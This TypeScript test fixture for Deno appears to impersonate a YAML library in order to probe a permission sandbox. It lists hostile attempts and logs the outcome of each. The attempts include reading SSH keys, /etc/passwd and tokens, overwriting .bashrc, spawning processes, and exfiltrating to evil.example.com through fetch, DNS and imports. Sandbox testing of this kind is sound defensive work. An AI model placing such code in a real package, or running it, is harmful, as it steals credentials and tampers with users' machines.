/**
 * What is planted in place of the YAML library: it works as the library does, and tries to do harm, once when it is
 * loaded and once when it is used. What came of each attempt is written to stderr, one JSON object on a line.
 */
// @ts-types="yaml/types"
import * as yaml from "real-yaml";

export * from "real-yaml";

const text = (error: unknown) => error instanceof Error ? `${error.name}: ${error.message}` : String(error);

const ATTEMPTS: Readonly<Record<string, () => unknown>> = {
  "read an SSH key": () => Deno.readTextFileSync(`${Deno.env.get("HOME")}/.ssh/id_ed25519`),
  "read an SSH key through node:fs": async () =>
    (await import("node:fs")).readFileSync(`${Deno.env.get("HOME")}/.ssh/id_ed25519`),
  "read /etc/passwd": () => Deno.readTextFileSync("/etc/passwd"),
  "read our own environment in /proc": () => Deno.readTextFileSync("/proc/self/environ"),
  "read the repository's token": () => Deno.readTextFileSync("../.git/config"),
  "list the workspace": () => [...Deno.readDirSync("..")],
  "read all variables": () => Deno.env.toObject(),
  "read another secret of the job": () => Deno.env.get("NPM_TOKEN"),
  "read another secret through node:process": () => globalThis.process.env["NPM_TOKEN"],
  "write to the shell's start file": () => Deno.writeTextFileSync(`${Deno.env.get("HOME")}/.bashrc`, "evil"),
  "write to the workspace": () => Deno.writeTextFileSync("../evil", "evil"),
  "change the configuration": () => Deno.writeTextFileSync("../atmos.yaml", "evil"),
  "change the program": () => Deno.writeTextFileSync("cli.ts", "evil"),
  "link out of its own directory": () => Deno.symlinkSync("/etc", "../../.atmos-auth-state/link"),
  "start a process": () => new Deno.Command("sh", { args: ["-c", "true"] }).outputSync(),
  "start a process through node:child_process": async () =>
    (await import("node:child_process")).execFileSync("true"),
  "load a native library": () => Deno.dlopen("libc.so.6", {}),
  "send to its author": () => fetch("https://evil.example.com/", { method: "POST", body: "secret" }),
  "send to a bucket in AWS": () => fetch("https://evil-bucket.s3.amazonaws.com/", { method: "PUT" }),
  "send over a socket": () => Deno.connect({ hostname: "192.0.2.1", port: 443 }),
  "send through node:https": async () => {
    const { request } = await import("node:https");
    await new Promise((resolve, reject) =>
      request("https://evil.example.com/").on("response", resolve).on("error", reject).end()
    );
  },
  "send by a name to resolve": () => Deno.resolveDns("secret.evil.example.com", "A"),
  "send by importing": () => import(`https://esm.sh/evil?secret=1${""}`),
  "send by importing a package": () => import(`npm:evil-${"package"}@1.0.0`),
  "listen": () => Deno.listen({ hostname: "127.0.0.1", port: 0 }),
  "ask what the machine is called": () => Deno.hostname(),
  // What the command itself may do, a library in it may do, too.
  "CAN read the configuration": () => Deno.readTextFileSync("../atmos.yaml").length > 0,
  "CAN read what the job asks for tokens with": () =>
    Deno.env.get("ACTIONS_ID_TOKEN_REQUEST_TOKEN") !== undefined,
  "CAN write to the program's own directory": () =>
    Deno.mkdirSync("../../.atmos-auth-state", { recursive: true }),
};

async function tryAll(when: string, chosen: RegExp): Promise<void> {
  for (const [attempt, act] of Object.entries(ATTEMPTS).filter(([attempt]) => chosen.test(attempt))) {
    try {
      await act();
      console.error(JSON.stringify({ when, attempt, outcome: "done" }));
    } catch (error) {
      console.error(JSON.stringify({ when, attempt, outcome: text(error) }));
    }
  }
}

// Flags that mean nothing to the command. Without a sandbox nothing is to be changed, nor sent to anybody.
if (Deno.args.includes("--verbose=false")) await tryAll("loaded", /./);
if (Deno.args.includes("--verbose=0")) await tryAll("loaded", /^(?:read|list|start) /);

/** What a command has given up is gone when the library is used. */
export class Lexer extends yaml.Lexer {
  constructor() {
    super();
    for (const name of ["run", "ffi", "net"] as const) {
      const { state } = Deno.permissions.querySync({ name });
      console.error(JSON.stringify({ when: "used", attempt: name, outcome: state }));
    }
  }
}
